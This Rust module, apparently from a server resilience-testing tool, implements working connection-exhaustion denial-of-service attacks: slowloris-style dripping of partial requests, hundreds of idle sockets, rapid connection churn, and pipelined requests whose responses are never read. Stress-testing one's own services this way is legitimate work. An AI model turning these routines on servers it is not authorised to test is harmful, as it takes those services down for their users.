//! Attacks with connections: slow, idle, many.

use super::{MANY, Result, paced};
use crate::clients::site::Site;
use std::time::{Duration, Instant};
use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;
use tokio::time::sleep;

/// Connections that send this and then a byte now and then, or nothing more.
pub(super) async fn dripping(
    site: Site,
    until: Instant,
    first: &'static [u8],
    stalls: bool,
) -> Result {
    let mut held: Vec<TcpStream> = Vec::new();
    let mut closed = 0;
    while held.len() < MANY {
        let mut stream = site.connect().await?;
        let _ = stream.write_all(first).await;
        held.push(stream);
    }
    while paced(until).await {
        for stream in held.iter_mut().filter(|_| !stalls) {
            if stream.write_all(b"x").await.is_err() {
                closed += 1;
                *stream = site.connect().await?;
                let _ = stream.write_all(first).await;
            }
        }
        sleep(Duration::from_millis(200)).await;
    }
    Ok(format!("{MANY} held, {closed} closed"))
}

pub(super) async fn idle(site: Site, until: Instant) -> Result {
    let mut held = Vec::new();
    for _ in 0..600 {
        held.push(site.connect().await?);
    }
    while paced(until).await {}
    Ok(format!("{} opened", held.len()))
}

pub(super) async fn churn(site: Site, until: Instant) -> Result {
    let mut count = 0;
    while Instant::now() < until {
        let mut stream = site.connect().await?;
        let _ = stream.write_all(b"GET / HTT").await;
        count += 1;
        sleep(Duration::from_millis(1)).await;
    }
    Ok(format!("{count} connections"))
}

pub(super) async fn unread_pages(site: Site, until: Instant) -> Result {
    let mut held = Vec::new();
    for _ in 0..100 {
        let mut stream = site.connect().await?;
        let _ = stream.write_all(&b"GET /spec/ HTTP/1.1\r\nHost: x\r\n\r\n".repeat(20)).await;
        held.push(stream);
    }
    while paced(until).await {}
    Ok(format!("{} pages unread", held.len() * 20))
}
